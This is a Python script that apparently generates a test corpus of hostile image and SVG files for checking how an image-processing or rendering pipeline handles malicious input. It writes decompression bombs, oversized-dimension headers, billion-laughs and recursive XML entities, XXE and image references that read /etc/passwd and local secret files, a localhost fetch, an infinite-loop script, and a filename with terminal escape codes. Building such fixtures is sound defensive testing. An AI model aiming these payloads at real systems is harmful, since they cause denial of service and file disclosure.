"""Hostile images and drawings, a folder each. python images.py OUTDIR; needs numpy and Pillow."""
import io, os, struct, sys, zlib, gzip
import numpy as np
from PIL import Image

OUT = sys.argv[1]


def save(case, name, data):
    d = os.path.join(OUT, case); os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f: f.write(data)


def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))


def png(w, h, depth=8, ctype=2, idat=b"", extra=b"", interlace=0):
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, depth, ctype, 0, 0, interlace)) + extra + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def zeros(n):
    c = zlib.compressobj(9); out = []
    block = b"\0" * (1 << 20)
    while n > 0: out.append(c.compress(block[: min(n, 1 << 20)])); n -= 1 << 20
    return b"".join(out) + c.flush()


ok = io.BytesIO(); Image.new("RGB", (16, 16), (9, 8, 7)).save(ok, "PNG"); ok = ok.getvalue()
rng = np.random.default_rng(0)
photo = Image.fromarray(rng.integers(0, 256, (64, 64, 3), dtype=np.uint8))
def enc(fmt, im=photo, **k):
    b = io.BytesIO(); im.save(b, fmt, **k); return b.getvalue()

save("png-claim-2e31", "a.png", png(2**31 - 1, 2**31 - 1))
save("png-claim-32768", "a.png", png(32768, 32768))
save("png-claim-zero", "a.png", png(0, 0))
save("png-bomb-18000-rgb", "a.png", png(18000, 18000, idat=zeros(18000 * (18000 * 3 + 1))))
save("png-bomb-32000x32000-grey", "a.png", png(32000, 32000, ctype=0, idat=zeros(32000 * 32001)))
for i in range(8): save("png-bomb-8x-18000", f"{i}.png", png(18000, 18000, idat=zeros(18000 * (18000 * 3 + 1))) if i == 0 else open(os.path.join(OUT, "png-bomb-8x-18000", "0.png"), "rb").read())
save("png-text-bomb", "a.png", png(16, 16, idat=zlib.compress(b"\0" * 16 * 49), extra=chunk(b"zTXt", b"k\0\0" + zeros(2 << 30))))
save("png-iccp-bomb", "a.png", png(16, 16, idat=zlib.compress(b"\0" * 16 * 49), extra=chunk(b"iCCP", b"k\0\0" + zeros(2 << 30))))
save("png-16bit", "a.png", enc("PNG", Image.fromarray(rng.integers(0, 65536, (16, 16), dtype=np.uint16))))
save("png-palette", "a.png", enc("PNG", photo.convert("P")))
save("png-1bit", "a.png", enc("PNG", photo.convert("1")))
save("png-alpha", "a.png", enc("PNG", photo.convert("RGBA")))
save("png-truncated", "a.png", enc("PNG")[:-400])
save("png-crc", "a.png", enc("PNG")[:100] + b"\xff" + enc("PNG")[101:])
save("png-trailing", "a.png", ok + b"garbage" * 1000)
a = [photo, photo.rotate(90), photo.rotate(180)]
save("apng", "a.png", enc("PNG", a[0], save_all=True, append_images=a[1:]))
save("jpeg-truncated-half", "a.jpg", enc("JPEG")[: len(enc("JPEG")) // 2])
save("jpeg-truncated-tail", "a.jpg", enc("JPEG")[:-40])
save("jpeg-no-eoi", "a.jpg", enc("JPEG")[:-2])
save("jpeg-cmyk", "a.jpg", enc("JPEG", photo.convert("CMYK")))
save("jpeg-grey", "a.jpg", enc("JPEG", photo.convert("L")))
save("jpeg-progressive", "a.jpg", enc("JPEG", progressive=True))
j = bytearray(enc("JPEG")); k = j.index(b"\xff\xc0"); j[k + 5:k + 9] = struct.pack(">HH", 65500, 65500)
save("jpeg-claim-65500", "a.jpg", bytes(j))
ex = Image.Exif(); ex[0x0112] = 6
save("jpeg-exif-rotated", "a.jpg", enc("JPEG", Image.fromarray(np.vstack([np.full((32, 64, 3), 255, np.uint8), np.zeros((32, 64, 3), np.uint8)])), exif=ex, quality=95))
save("gif-animated", "a.gif", enc("GIF", a[0].convert("P"), save_all=True, append_images=[x.convert("P") for x in a[1:]]))
g = b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\0\0" + b"\0\0\0\xff\xff\xff" + b"," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x4c\x01\0;"
save("gif-claim-65535", "a.gif", g)
g = b"GIF89a" + struct.pack("<HH", 10000, 10000) + b"\x80\0\0" + b"\0\0\0\xff\xff\xff" + (b"," + struct.pack("<HHHHB", 0, 0, 10000, 10000, 0) + b"\x02\x02\x4c\x01\0") * 20000 + b";"
save("gif-20000-frames", "a.gif", g)
save("webp-animated", "a.webp", enc("WEBP", a[0], save_all=True, append_images=a[1:]))
save("webp-lossless", "a.webp", enc("WEBP", lossless=True))
w = enc("WEBP", lossless=True); k = w.index(b"VP8L") + 8
save("webp-claim-16384", "a.webp", w[:k + 1] + struct.pack("<I", 16383 | 16383 << 14) + w[k + 5:])
save("bmp-claim-huge", "a.bmp", b"BM" + struct.pack("<IHHI", 1 << 30, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 30000, 30000, 1, 24, 0, 0, 0, 0, 0, 0))
save("bmp-negative", "a.bmp", b"BM" + struct.pack("<IHHI", 1 << 30, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 16, -2**31, 1, 24, 0, 0, 0, 0, 0, 0))
save("bmp-rle", "a.bmp", b"BM" + struct.pack("<IHHI", 1 << 20, 0, 0, 1078) + struct.pack("<IiiHHIIiiII", 40, 20000, 20000, 1, 8, 1, 0, 0, 0, 256, 0) + b"\0" * 1024 + b"\0\1")
t = enc("TIFF")
save("tiff-ok", "a.tif", t)
save("tiff-claim-huge", "a.tif", b"II*\0\x08\0\0\0" + struct.pack("<H", 9) + b"".join(struct.pack("<HHII", *e) for e in [(256, 4, 1, 30000), (257, 4, 1, 30000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, 30000), (279, 4, 1, 900000000)]) + b"\0" * 4)
save("tiff-ifd-loop", "a.tif", t[:-4] + struct.pack("<I", 8))
save("tiff-many-strips", "a.tif", b"II*\0\x08\0\0\0" + struct.pack("<H", 3) + b"".join(struct.pack("<HHII", *e) for e in [(256, 4, 1, 16), (257, 4, 1, 16), (273, 4, 0x3fffffff, 8)]) + b"\0" * 4)
save("tiff-lzw", "a.tif", enc("TIFF", compression="tiff_lzw"))
save("tiff-jpeg", "a.tif", enc("TIFF", compression="jpeg"))
save("tiff-float", "a.tif", enc("TIFF", Image.fromarray(rng.normal(size=(16, 16)).astype(np.float32))))
save("ppm-claim", "a.ppm", b"P6\n4000000000 4000000000\n255\n")
save("ppm-ok", "a.ppm", enc("PPM"))
save("empty-file", "a.png", b"")
save("text-as-png", "a.png", b"hello")
save("jpeg-named-png", "a.png", enc("JPEG"))
save("svg-named-png", "a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>")
save("mixed-sizes", "a.png", ok); save("mixed-sizes", "b.png", enc("PNG"))
save("mixed-svg-and-png", "a.png", ok); save("mixed-svg-and-png", "b.svg", b"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 8'><rect width='8' height='8' fill='red'/></svg>")

S = b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' viewBox='0 0 100 100' width='100' height='100'>"
def svg(case, body, head=S, pre=b"", name="a.svg"):
    save("svg-" + case, name, pre + head + body + b"</svg>")
ent = b"<!DOCTYPE svg [<!ENTITY a0 'ha'>" + b"".join(b"<!ENTITY a%d '%s'>" % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 12)) + b"]>"
svg("billion-laughs", b"<text x='1' y='20'>&a11;</text>", pre=ent)
svg("quadratic-entity", b"<text>" + b"&b;" * 20000 + b"</text>", pre=b"<!DOCTYPE svg [<!ENTITY b '" + b"x" * 200000 + b"'>]>")
svg("entity-elements", b"&g9;", pre=b"<!DOCTYPE svg [<!ENTITY g0 \"<rect width='1' height='1'/>\">" + b"".join(b"<!ENTITY g%d '%s'>" % (i, b"&g%d;" % (i - 1) * 10) for i in range(1, 10)) + b"]>")
svg("entity-recursive", b"<text>&x;</text>", pre=b"<!DOCTYPE svg [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>")
svg("xxe-file", b"<text x='1' y='20'>&e;</text>", pre=b"<!DOCTYPE svg [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>")
use = b"<defs><rect id='u0' width='1' height='1'/>" + b"".join(b"<g id='u%d'>" % i + b"<use xlink:href='#u%d'/>" % (i - 1) * 10 + b"</g>" for i in range(1, 9)) + b"</defs>"
svg("use-bomb-1e8", use + b"<use xlink:href='#u8'/>")
use5 = b"<defs><rect id='u0' width='1' height='1'/>" + b"".join(b"<g id='u%d'>" % i + b"<use xlink:href='#u%d'/>" % (i - 1) * 10 + b"</g>" for i in range(1, 6)) + b"</defs>"
svg("use-bomb-1e5", use5 + b"<use xlink:href='#u5'/>")
svg("use-recursive", b"<g id='a'><use xlink:href='#b'/></g><g id='b'><use xlink:href='#a'/></g>")
svg("deep-groups", b"<g>" * 100_000 + b"</g>" * 100_000)
svg("deep-groups-1000", b"<g>" * 1000 + b"</g>" * 1000)
svg("image-file", f"<image xlink:href='{OUT}/secret/secret.png' width='100' height='100'/>".encode())
save("secret", "secret.png", enc("PNG", Image.new("RGB", (100, 100), (255, 0, 255))))
svg("image-relative", b"<image xlink:href='../secret/secret.png' width='100' height='100'/>")
svg("image-etc-passwd", b"<image xlink:href='file:///etc/passwd' width='100' height='100'/>")
svg("image-devzero", b"<image xlink:href='/dev/zero' width='100' height='100'/>")
svg("image-fifo", f"<image xlink:href='{OUT}/../containers/fifo' width='100' height='100'/>".encode())
svg("image-http", b"<image xlink:href='http://127.0.0.1:9/x.png' width='100' height='100'/>")
svg("image-svg-self", b"<image xlink:href='a.svg' width='100' height='100'/>")
svg("image-svg-self-abs", f"<image xlink:href='{OUT}/svg-image-svg-self-abs/a.svg' width='100' height='100'/>".encode())
import base64
bomb = base64.b64encode(png(30000, 30000, ctype=0, idat=zeros(30000 * 30001)))
svg("image-data-bomb", b"<image xlink:href='data:image/png;base64," + bomb + b"' width='100' height='100'/>")
inner = S + b"<rect width='9' height='9'/></svg>"
for _ in range(12): inner = S + b"<image width='9' height='9' xlink:href='data:image/svg+xml;base64," + base64.b64encode(inner) + b"'/></svg>"
save("svg-nested-data", "a.svg", inner)
svg("size-huge", b"", b"<svg xmlns='http://www.w3.org/2000/svg' width='1e30' height='1e30'>")
svg("size-tiny", b"<rect width='1' height='1'/>", b"<svg xmlns='http://www.w3.org/2000/svg' width='1e-30' height='1e-30'>")
svg("size-zero", b"", b"<svg xmlns='http://www.w3.org/2000/svg' width='0' height='0'>")
svg("size-negative", b"", b"<svg xmlns='http://www.w3.org/2000/svg' width='-5' height='5'>")
svg("size-nan", b"", b"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 NaN inf'>")
svg("size-aspect", b"<rect width='1e6' height='1'/>", b"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1000000 0.001'>")
svg("filter-blur-huge", b"<filter id='f' x='-1000' y='-1000' width='2000000' height='2000000'><feGaussianBlur stdDeviation='1000000'/></filter><rect width='100' height='100' filter='url(#f)'/>")
svg("filter-turbulence", b"<filter id='f'><feTurbulence baseFrequency='0.5' numOctaves='1000000000'/></filter><rect width='100' height='100' filter='url(#f)'/>")
svg("filter-chain", b"<filter id='f'>" + b"<feGaussianBlur stdDeviation='50'/>" * 20000 + b"</filter><rect width='100' height='100' filter='url(#f)'/>")
svg("filter-morph", b"<filter id='f'><feMorphology operator='dilate' radius='100000'/></filter><rect width='100' height='100' filter='url(#f)'/>")
svg("filter-convolve", b"<filter id='f'><feConvolveMatrix order='500' kernelMatrix='" + b"1 " * 250000 + b"'/></filter><rect width='100' height='100' filter='url(#f)'/>")
svg("pattern-tiny", b"<pattern id='p' width='0.0001' height='0.0001' patternUnits='userSpaceOnUse'><rect width='1' height='1'/></pattern><rect width='100' height='100' fill='url(#p)'/>")
svg("pattern-huge", b"<pattern id='p' width='1000000' height='1000000' patternUnits='userSpaceOnUse'><rect width='1000000' height='1000000'/></pattern><rect width='100' height='100' fill='url(#p)'/>")
svg("pattern-self", b"<pattern id='p' width='10' height='10'><rect width='9' height='9' fill='url(#p)'/></pattern><rect width='100' height='100' fill='url(#p)'/>")
svg("mask-self", b"<mask id='m' mask='url(#m)'><rect width='9' height='9' fill='white'/></mask><rect width='100' height='100' mask='url(#m)'/>")
svg("clip-nest", b"".join(b"<clipPath id='c%d' clip-path='url(#c%d)'><rect width='99' height='99'/></clipPath>" % (i, i + 1) for i in range(5000)) + b"<rect width='100' height='100' clip-path='url(#c0)'/>")
svg("dash-bomb", b"<path d='M0 0H1e9' stroke='red' stroke-dasharray='0.0001 0.0001'/>")
svg("dash-bomb-small", b"<path d='M0 0H100' stroke='red' stroke-dasharray='0.00001 0.00001'/>")
svg("path-long", b"<path d='M0 0" + b"L1 1L99 99" * 500_000 + b"'/>")
svg("text-fonts", b"<text x='1' y='20' font-family='DejaVu Sans'>Hello</text><rect width='10' height='10' fill='red'/>")
svg("script", b"<script>while(1);</script><foreignObject><iframe src='file:///etc/passwd'/></foreignObject><rect width='100' height='100'/>")
svg("style-import", b"<style>@import url('file:///etc/passwd'); rect{fill:url('http://127.0.0.1/x')}</style><rect width='100' height='100'/>")
svg("many-rects", b"<rect width='9' height='9'/>" * 1_000_000)
svg("gzip-bomb", b"")
save("svg-gzip-bomb", "a.svg", gzip.compress(S + b" " * (1 << 30) + b"</svg>", 9))
save("svg-gzip-bomb-attr", "a.svg", gzip.compress(S + b"<rect width='1' height='1'/>" * 20_000_000 + b"</svg>", 6))
svg("xml-attributes", b"<rect " + b" ".join(b"a%d='1'" % i for i in range(200_000)) + b"/>")
save("svg-not-utf8", "a.svg", b"\xff\xfe<svg/>")
save("svg-empty", "a.svg", b"")
save("svg-name-escape", "\x1b[31m\x1b]0;x\x07\n.svg", b"<svg")
